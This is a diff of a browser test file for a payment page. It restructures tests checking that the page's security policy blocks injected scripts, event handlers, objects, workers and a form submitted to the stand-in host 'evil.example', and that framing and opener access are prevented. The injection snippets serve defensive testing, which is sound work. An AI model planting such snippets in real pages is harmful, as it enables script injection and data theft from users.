@@ -11,11 +11,10 @@ const breaches: readonly {
 }[] = [
   {
     what: "a script written into the page",
-    directive: "script-src-elem",
+    directive: "require-trusted-types-for",
     act: (page) =>
       page.evaluate(() => {
         const script = document.createElement("script");
-        // Past the types that guard such text, as a parser's own work would be.
         script.append("document.title = 'broken'");
         document.head.append(script);
       }),
@@ -57,7 +56,7 @@ const breaches: readonly {
   },
   {
     what: "an event handler in an attribute",
-    directive: "script-src-attr",
+    directive: "require-trusted-types-for",
     act: (page) =>
       page.evaluate(() => {
         const button = document.createElement("button");
@@ -114,7 +113,7 @@ const breaches: readonly {
   },
   {
     what: "an object",
-    directive: "object-src",
+    directive: "require-trusted-types-for",
     act: (page) =>
       page.evaluate(() => {
         const object = document.createElement("object");
@@ -133,17 +132,6 @@ const breaches: readonly {
       }),
   },
   {
-    what: "a form that is sent elsewhere",
-    directive: "form-action",
-    act: (page) =>
-      page.evaluate(() => {
-        const form = document.createElement("form");
-        form.action = "https://evil.example/";
-        document.body.append(form);
-        form.submit();
-      }),
-  },
-  {
     what: "a worker",
     directive: "require-trusted-types-for",
     act: (page) =>
@@ -157,35 +145,49 @@ const breaches: readonly {
         }
       }),
   },
+  {
+    what: "a form that is sent elsewhere",
+    directive: "form-action",
+    act: (page) =>
+      page.evaluate(() => {
+        const form = document.createElement("form");
+        form.action = "https://evil.example/";
+        document.body.append(form);
+        form.submit();
+      }),
+  },
 ];
 
-for (const { what, directive, act } of breaches) {
-  test(`${what} is stopped by ${directive}, and fails every test in which it is tried`, async ({
-    customer,
-    faults,
-    gateway,
-    page,
-    webApp,
-  }) => {
-    gateway.paymentPages(newPayment.offlineJpy().mock);
-    await customer.openLink(mockedLink(webApp.origin));
-    await expect(customer.button("Continue")).toBeVisible();
-    const left: string[] = [];
-    page.on("requestfinished", (request) => left.push(request.url()));
-    expect(faults.found).toEqual([]);
+test("whatever would run, load or send something else is stopped, and fails the test in which it is tried", async ({
+  customer,
+  faults,
+  gateway,
+  page,
+  webApp,
+}) => {
+  gateway.paymentPages(newPayment.offlineJpy().mock);
+  await customer.openLink(mockedLink(webApp.origin));
+  await expect(customer.button("Continue")).toBeVisible();
+  const left: string[] = [];
+  page.on("requestfinished", (request) => left.push(request.url()));
+  for (const { what, directive, act } of breaches) {
+    expect(faults.found, `before ${what}`).toEqual([]);
     await act(page).catch(() => undefined);
-    const breach = `the page's policy was broken: ${directive}`;
-    await expect.poll(() => faults.found.join("\n")).toContain(breach);
-    await expect(page).not.toHaveTitle(/broken/);
-    const outline = await page.evaluate(() => getComputedStyle(document.body).outlineWidth);
-    expect(outline).not.toBe("7px");
-    expect(new URL(page.url()).origin).toBe(webApp.origin);
-    expect(left.filter((url) => url.includes("evil.example"))).toEqual([]);
-    faults.forgive(/policy|TrustedHTML|TrustedScript|evil\.example/i);
-  });
-}
+    const breach = `the page's policy was broken: ${directive} `;
+    await expect.poll(() => faults.found.join("\n"), what).toContain(breach);
+    const { title, outline } = await page.evaluate(() => ({
+      title: document.title,
+      outline: getComputedStyle(document.body).outlineWidth,
+    }));
+    expect(title, what).not.toContain("broken");
+    expect(outline, what).not.toBe("7px");
+    faults.forgive(/policy|Trusted(HTML|Script|ScriptURL)|evil\.example/i);
+  }
+  expect(new URL(page.url()).origin).toBe(webApp.origin);
+  expect(left.filter((url) => url.includes("evil.example"))).toEqual([]);
+});
 
-test("the page may not be framed", async ({ faults, page, webApp }) => {
+test("the page may not be framed", async ({ page, webApp }) => {
   await page.route("https://shop.example/frame", (route) =>
     route.fulfill({
       contentType: "text/html",
@@ -193,10 +195,9 @@ test("the page may not be framed", async ({ faults, page, webApp }) => {
     }),
   );
   await page.goto("https://shop.example/frame");
-  await expect.poll(() => faults.found.join("\n")).toMatch(/frame-ancestors|X-Frame-Options/i);
   const [, frame] = page.frames();
-  expect(frame ? await frame.evaluate(() => document.querySelector("#root")) : null).toBeNull();
-  faults.forgive(/frame/i);
+  await expect.poll(() => frame?.url()).toMatch(/^chrome-error:/);
+  expect(await frame?.evaluate(() => document.querySelector("#root"))).toBeNull();
 });
 
 test("whoever opens the page in a window has no hold on it (Cross-Origin-Opener-Policy)", async ({
@@ -215,6 +216,8 @@ test("whoever opens the page in a window has no hold on it (Cross-Origin-Opener-
   await expect(payment.getByRole("heading", { level: 1 })).toBeVisible();
   expect(await payment.evaluate(() => opener)).toBeNull();
   await expect
-    .poll(() => page.evaluate(() => Reflect.get(Object(Reflect.get(globalThis, "opened")), "closed")))
+    .poll(() =>
+      page.evaluate(() => Reflect.get(Object(Reflect.get(globalThis, "opened")), "closed")),
+    )
     .toBe(true);
 });
